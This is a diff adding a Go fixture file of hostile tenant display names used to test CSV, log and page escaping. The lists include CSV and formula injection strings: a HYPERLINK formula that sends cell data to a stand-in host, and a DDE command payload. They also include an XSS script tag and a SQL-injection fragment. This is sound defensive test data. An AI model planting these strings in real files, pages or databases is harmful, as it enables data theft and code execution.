@@ -1,0 +1,33 @@
+package m365
+
+// hostileNames are display names that a tenant's administrator may really
+// choose, and that break careless CSV, logs and pages.
+var hostileNames = []string{
+	`Fabrikam "The Best", Inc.`,
+	"Contoso\nNorth",
+	"Adatum\r\nTwo\tTabs",
+	`=HYPERLINK("https://fabrikam.example/?x="&A1,"Invoice")`,
+	`<script>alert("Litware")</script>`,
+	"Proseware 🚀 \u202eemaN\u202c العربية",
+	"Wingtip\\\"; DROP TABLE--",
+	"  Tailspin  ",
+	"'Northwind",
+	"\ufeffRelecloud",
+}
+
+// formulaNames are names that a spreadsheet would run.
+var formulaNames = []string{
+	`=HYPERLINK("https://fabrikam.example","Invoice")`,
+	"+1+cmd|' /C calc'!A0",
+	"-2+3",
+	"@SUM(1,2)",
+	"\t=1+1",
+	"\r=1+1",
+}
+
+// brokenNames hold line breaks of both kinds, commas and quotes.
+var brokenNames = []string{
+	"Fabrikam \"North\"\r\nWarehouse, dock 3",
+	"Contoso\nRetail",
+	"Adatum, Inc.",
+}
